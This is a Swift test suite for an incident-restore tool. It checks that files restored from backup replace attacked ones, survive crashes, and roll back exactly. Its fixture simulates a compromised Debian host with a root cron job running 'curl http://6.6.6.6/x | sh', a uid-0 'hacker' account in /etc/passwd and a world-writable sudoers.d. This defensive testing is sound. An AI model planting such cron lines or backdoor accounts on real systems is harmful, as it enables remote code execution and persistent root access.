import AtttTestSupport
import Foundation
import HardeningCore
import HostAccess
import Remediation
import Testing

/// `putInPlace` (Điều 11 khoản 2 điểm a, Bước 3): files restored from a backup are renamed into place,
/// the attacked ones renamed aside into `<mount>/.attt-restore-<tx>/kept/`; a crash at any point is
/// recovered with every file old or new (never lost), and a rollback brings the attacked state back
/// byte for byte, with owner and mode.
@Suite struct PutInPlaceTests {
    static let stage = "/.attt-restore-test/stage"

    /// The host tree without the agent's state and the restore areas (the stage is consumed).
    static func tree(_ root: URL) throws -> [String: String] {
        try snapshotTree(root).filter { !$0.key.hasPrefix("var/lib/attt") && !$0.key.hasPrefix(".attt-restore-") }
    }

    /// An attacked tree, and beside it (on the same file system) the backup's copies staged.
    static func attackedHost() throws -> FixtureHost {
        let host = try FixtureHost("debian12-desktop")
        try host.write("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nhacker:x:0:0::/root:/bin/sh\n")
        try host.write("/etc/cron.d/evil", "* * * * * root curl http://6.6.6.6/x | sh\n")
        try? host.remove("/etc/ssh")
        #expect(chown(host.url("/etc/passwd").path, 0, 0) == 0 && chmod(host.url("/etc/passwd").path, 0o666) == 0)
        try? host.remove("/etc/localtime")
        try host.symlink("/etc/localtime", to: "/usr/share/zoneinfo/Etc/UTC")
        try host.write("/home/an/du-lieu.bin", "mã hoá bởi ransomware\n")
        // A directory opened to everyone, and an empty one deleted (its mode and owner are restored).
        try FileManager.default.createDirectory(at: host.url("/etc/sudoers.d"), withIntermediateDirectories: true)
        #expect(chmod(host.url("/etc/sudoers.d").path, 0o777) == 0 && chown(host.url("/etc/sudoers.d").path, 1000, 1000) == 0)

        try host.write(stage + "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
        #expect(chmod(host.url(stage + "/etc/passwd").path, 0o644) == 0)
        try host.write(stage + "/etc/ssh/sshd_config", "PermitRootLogin no\n")
        #expect(chmod(host.url(stage + "/etc/ssh").path, 0o750) == 0 && chown(host.url(stage + "/etc/ssh").path, 0, 4) == 0)
        try host.symlink(stage + "/etc/localtime", to: "/usr/share/zoneinfo/Asia/Ho_Chi_Minh")
        try host.write(stage + "/home/an/du-lieu.bin", "bản sao lưu\n")
        #expect(chown(host.url(stage + "/home/an/du-lieu.bin").path, 1000, 1000) == 0)
        return host
    }

    static let actions: [RemediationAction] = [
        .putInPlace(path: "/etc/cron.d/evil", staged: nil),
        .putInPlace(path: "/etc/localtime", staged: stage + "/etc/localtime"),
        .putInPlace(path: "/etc/passwd", staged: stage + "/etc/passwd"),
        .putInPlace(path: "/etc/ssh/sshd_config", staged: stage + "/etc/ssh/sshd_config"),
        .putInPlace(path: "/home/an/du-lieu.bin", staged: stage + "/home/an/du-lieu.bin"),
        .restoreDirectory(path: "/etc/apt/keyrings", mode: 0o700, owner: 0, group: 0),
        .restoreDirectory(path: "/etc/sudoers.d", mode: 0o750, owner: 0, group: 0),
    ]

    static func plan() -> RemediationPlan {
        RemediationPlan(steps: actions.map { RemediationStep(control: "VN-TD-INC-001", fixer: "incident-restore", description: "restore", action: $0) })
    }

    @Test func restoredFilesReplaceTheAttackedOnesWhichAreKept() throws {
        let host = try Self.attackedHost()
        let attacked = try Self.tree(host.root)
        let staged = try snapshotTree(host.url(Self.stage))
        let journal = try Applier(host: HostRoot(host.root.path)).apply(Self.plan(), officer: "can-bo")
        #expect(journal.state == .applied, "\(journal.error ?? "")")

        // Each restored path now is the staged entry, owner and mode included.
        let now = try snapshotTree(host.root)
        for relative in ["etc/passwd", "etc/ssh", "etc/ssh/sshd_config", "etc/localtime", "home/an/du-lieu.bin"] {
            #expect(now[relative] != nil && now[relative] == staged[String(relative)], "\(relative)")
        }
        #expect(!FileManager.default.fileExists(atPath: host.url("/etc/cron.d/evil").path))
        #expect(try host.read("/etc/passwd") == "root:x:0:0:root:/root:/bin/bash\n")
        // The directories as in the backup: mode and owner given back, the deleted one made again.
        #expect(now["etc/sudoers.d"] == "\(S_IFDIR) 750 0:0 ", "\(now["etc/sudoers.d"] ?? "")")
        #expect(now["etc/apt/keyrings"] == "\(S_IFDIR) 700 0:0 ", "\(now["etc/apt/keyrings"] ?? "")")

        // The attacked versions are in kept/, moved (same inode data, owner, mode), nothing copied.
        let kept = journal.backups.compactMap { backup in backup.keptAt.map { (backup.path, $0) } }
        #expect(kept.count == 4)
        for (path, keptAt) in kept {
            #expect(keptAt.hasPrefix("/.attt-restore-\(journal.id)/kept/"), "\(keptAt)")
            let relative = String(path.dropFirst())
            let keptState = try snapshotTree(host.url(AtomicFileName.parent(keptAt)))[AtomicFileName.name(keptAt)]
            #expect(keptState == attacked[relative], "\(path)")
        }
        let copies = try FileManager.default.contentsOfDirectory(atPath: host.url("/var/lib/attt/transactions/\(journal.id)/files").path)
        #expect(copies.isEmpty)
        // What a rollback checks first is each restored file's identity, not a hash of its bytes.
        #expect(journal.backups.filter { $0.path != "/etc/cron.d/evil" && $0.directory == nil }.allSatisfy { $0.after?.hasPrefix("stat:") == true })
        #expect(journal.backups.filter { $0.directory == true }.map(\.after) == ["dir:700:0:0", "dir:750:0:0"])

        let rolledBack = try Applier(host: HostRoot(host.root.path)).rollback(nil)
        #expect(rolledBack.state == .rolledBack)
        #expect(try Self.tree(host.root) == attacked)
        #expect(!FileManager.default.fileExists(atPath: host.url("/.attt-restore-\(journal.id)").path))
    }

    /// Stops the restore at every point a crash could hit, then recovers: in between each file is old,
    /// new, or in its kept place (never lost); afterwards the tree is the attacked one again.
    @Test func aCrashAtAnyPointIsRecovered() throws {
        // A file is moved aside between its "before" and "after" points ("kept"); a directory only changes mode.
        let points = Self.actions.indices.flatMap { i in
            let n = i + 1
            if case .putInPlace = Self.actions[i] { return ["before-step-\(n)", "kept-step-\(n)", "after-step-\(n)"] }
            return ["before-step-\(n)", "after-step-\(n)"]
        }
        for point in points {
            let host = try Self.attackedHost()
            let old = try Self.tree(host.root)
            var applier = Applier(host: HostRoot(host.root.path))
            applier.checkpoint = { if $0 == point { throw Applier.Checkpoint() } }
            #expect(throws: Applier.Checkpoint.self) { try applier.apply(Self.plan(), officer: nil) }
            let during = try Self.tree(host.root)
            let kept = try snapshotTree(host.root).filter { $0.key.contains("/kept/") }.map(\.value)
            // A directory's mode is not a file to keep: it is checked after the recovery, below.
            for (path, state) in old where during[path] != state && !state.hasPrefix("\(S_IFDIR) ") {
                #expect(kept.contains(state), "\(point): \(path) is neither in place nor kept")
            }
            let recovered = try Applier(host: HostRoot(host.root.path)).recover()
            #expect(recovered.count == 1 && recovered[0].state == .recovered, "\(point)")
            #expect(try Self.tree(host.root) == old, "\(point)")
        }
    }

    /// A rollback killed half way is finished by the next run: renaming back is idempotent.
    @Test func anInterruptedRollbackIsFinished() throws {
        for point in ["rolling-back", "restored-1", "restored-3"] {
            let host = try Self.attackedHost()
            let old = try Self.tree(host.root)
            _ = try Applier(host: HostRoot(host.root.path)).apply(Self.plan(), officer: nil)
            var applier = Applier(host: HostRoot(host.root.path))
            applier.checkpoint = { if $0 == point { throw Applier.Checkpoint() } }
            #expect(throws: Applier.Checkpoint.self) { try applier.rollback(nil) }
            let finished = try Applier(host: HostRoot(host.root.path)).recover()
            #expect(finished.map(\.state) == [.rolledBack], "\(point)")
            #expect(try Self.tree(host.root) == old, "\(point)")
        }
    }

    /// A file larger than the journal's 64 MiB copy limit is moved, never read: the kept file is the
    /// same inode, and the restored one the staged inode.
    @Test func aLargeFileIsMovedNotCopied() throws {
        let host = try Self.attackedHost()
        #expect(truncate(host.url("/home/an/du-lieu.bin").path, 5 << 30) == 0)
        var before = stat(), staged = stat(), after = stat(), kept = stat()
        #expect(stat(host.url("/home/an/du-lieu.bin").path, &before) == 0 && stat(host.url(Self.stage + "/home/an/du-lieu.bin").path, &staged) == 0)
        let journal = try Applier(host: HostRoot(host.root.path)).apply(Self.plan(), officer: nil)
        #expect(journal.state == .applied, "\(journal.error ?? "")")
        let keptAt = try #require(journal.backups.first { $0.path == "/home/an/du-lieu.bin" }?.keptAt)
        #expect(stat(host.url(keptAt).path, &kept) == 0 && stat(host.url("/home/an/du-lieu.bin").path, &after) == 0)
        #expect(kept.st_ino == before.st_ino && kept.st_size == 5 << 30)
        #expect(after.st_ino == staged.st_ino)
    }

    /// A restore of many files: put in place and rolled back, each O(1) (renames), the journal saved
    /// once for the records and once at the end. The measured times are printed for the record
    /// (20,000 files: 148 s applied, 97 s rolled back, debug build on a shared 2-core machine; three
    /// directory fsyncs a file dominate).
    @Test func twoThousandFilesInOneTransaction() throws {
        let host = try FixtureHost("debian12-desktop")
        let count = 2_000
        var actions: [RemediationAction] = []
        for n in 0..<count {
            let path = "/home/an/tai-lieu/\(n / 500)/\(n).odt"
            try host.writeData(path, Data("đã mã hoá \(n)".utf8))
            try host.writeData(Self.stage + path, Data("bản sao lưu \(n)".utf8))
            actions.append(.putInPlace(path: path, staged: Self.stage + path))
        }
        let plan = RemediationPlan(steps: actions.map { RemediationStep(control: "VN-TD-INC-001", fixer: "incident-restore", description: "restore", action: $0) })
        let clock = ContinuousClock()
        var journal: Journal? = nil
        let applied = try clock.measure { journal = try Applier(host: HostRoot(host.root.path)).apply(plan, officer: nil) }
        #expect(journal?.state == .applied, "\(journal?.error ?? "")")
        #expect(try host.read("/home/an/tai-lieu/3/1999.odt") == "bản sao lưu 1999")
        let rolledBack = try clock.measure { _ = try Applier(host: HostRoot(host.root.path)).rollback(nil) }
        #expect(try host.read("/home/an/tai-lieu/3/1999.odt") == "đã mã hoá 1999")
        print("putInPlace: \(count) files applied in \(applied), rolled back in \(rolledBack)")
        #expect(applied < .seconds(60) && rolledBack < .seconds(60))
    }

    /// A restored file changed afterwards (its inode or time differ) is not silently thrown away.
    @Test func rollbackRefusesAfterARestoredFileChanged() throws {
        let host = try Self.attackedHost()
        let applier = Applier(host: HostRoot(host.root.path))
        _ = try applier.apply(Self.plan(), officer: nil)
        try host.write("/home/an/du-lieu.bin", "viết lại sau khi khôi phục\n")
        #expect(throws: Applier.RollbackError.self) { try applier.rollback(nil) }
    }

    /// A staged copy that is not there fails the transaction, and the files already moved go back.
    @Test func aMissingStagedFileFailsAndPutsEverythingBack() throws {
        let host = try Self.attackedHost()
        let old = try Self.tree(host.root)
        try host.remove(Self.stage + "/home/an/du-lieu.bin")
        let journal = try Applier(host: HostRoot(host.root.path)).apply(Self.plan(), officer: nil)
        #expect(journal.state == .failed)
        #expect(journal.error?.contains("cannot put /home/an/du-lieu.bin in place") == true, "\(journal.error ?? "")")
        #expect(try Self.tree(host.root) == old)
    }

    /// A directory whose mode was changed after the restore is not silently reset by a rollback.
    @Test func rollbackRefusesAfterARestoredDirectoryChanged() throws {
        let host = try Self.attackedHost()
        let applier = Applier(host: HostRoot(host.root.path))
        _ = try applier.apply(Self.plan(), officer: nil)
        #expect(chmod(host.url("/etc/sudoers.d").path, 0o700) == 0)
        #expect(throws: Applier.RollbackError.self) { try applier.rollback(nil) }
    }

    /// A link planted where the backup has a directory is not followed: the step fails and all goes back.
    @Test func aLinkInPlaceOfADirectoryFailsTheRestore() throws {
        let host = try Self.attackedHost()
        try host.remove("/etc/sudoers.d")
        try host.symlink("/etc/sudoers.d", to: "/etc/ssh")
        let old = try Self.tree(host.root)
        let journal = try Applier(host: HostRoot(host.root.path)).apply(Self.plan(), officer: nil)
        #expect(journal.state == .failed)
        #expect(try Self.tree(host.root) == old)
    }

    /// The kept files go only when the officer says so, and then the restore can no longer be rolled back.
    @Test func purgingTheKeptFilesEndsTheRollback() throws {
        let host = try Self.attackedHost()
        let applier = Applier(host: HostRoot(host.root.path))
        let journal = try applier.apply(Self.plan(), officer: nil)
        let (_, kept) = try applier.keptFiles(journal.id)
        #expect(kept.directories == ["/.attt-restore-\(journal.id)/kept"] && kept.entries == 4, "\(kept)")
        let restored = try Self.tree(host.root)
        let purged = try applier.purgeKept(journal.id)
        #expect(purged.kept == kept && purged.journal.keptPurgedAt != nil)
        #expect(!FileManager.default.fileExists(atPath: host.url("/.attt-restore-\(journal.id)").path))
        #expect(try Self.tree(host.root) == restored)
        #expect(throws: Applier.RollbackError.self) { try applier.rollback(journal.id) }
        #expect(throws: Applier.PurgeRefused.self) { try applier.purgeKept(journal.id) }
    }

    /// A directory the attacker put where the backup has nothing is kept whole, however deep, and purged whole.
    @Test func aDeepDirectoryMovedAsideIsPurgedWhole() throws {
        let host = try Self.attackedHost()
        try host.remove("/etc/cron.d/evil")
        try host.write("/etc/cron.d/evil/a/b/c/d/e/f/g/payload", "x\n")
        let applier = Applier(host: HostRoot(host.root.path))
        let journal = try applier.apply(Self.plan(), officer: nil)
        #expect(journal.state == .applied, "\(journal.error ?? "")")
        #expect(!FileManager.default.fileExists(atPath: host.url("/etc/cron.d/evil").path))
        _ = try applier.purgeKept(journal.id)
        #expect(!FileManager.default.fileExists(atPath: host.url("/.attt-restore-\(journal.id)").path))
    }

    /// Only an applied restore's kept files are purged: a rolled-back one's are back in place.
    @Test func purgeIsRefusedForARolledBackRestoreOrAnotherTransaction() throws {
        let host = try Self.attackedHost()
        let applier = Applier(host: HostRoot(host.root.path))
        let journal = try applier.apply(Self.plan(), officer: nil)
        _ = try applier.rollback(journal.id)
        #expect(throws: Applier.PurgeRefused.self) { try applier.purgeKept(journal.id) }
        let write = RemediationPlan(steps: [RemediationStep(control: "VN-TD-X", fixer: "x", description: "x", action: .writeFile(path: "/etc/issue", content: Data("x\n".utf8), mode: 0o644))])
        let other = try applier.apply(write, officer: nil)
        #expect(throws: Applier.PurgeRefused.self) { try applier.purgeKept(other.id) }
        #expect(throws: Applier.PurgeRefused.self) { try applier.purgeKept("000099-20261206T000000Z") }
    }
}

/// Host path pieces, for the tests' own paths.
enum AtomicFileName {
    static func parent(_ path: String) -> String { String(path[..<path.lastIndex(of: "/")!]) }
    static func name(_ path: String) -> String { String(path[path.index(after: path.lastIndex(of: "/")!)...]) }
}
